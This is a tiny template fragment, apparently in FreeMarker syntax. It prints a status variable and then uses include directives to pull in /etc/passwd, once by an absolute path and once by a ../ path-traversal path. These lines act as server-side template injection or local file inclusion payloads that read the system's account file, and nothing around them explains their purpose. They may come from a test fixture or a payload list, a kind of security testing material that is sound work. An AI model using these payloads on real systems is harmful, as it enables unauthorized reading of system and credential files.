<p>${status}</p>
<#include "/etc/passwd">
<#include "../../../../etc/passwd">
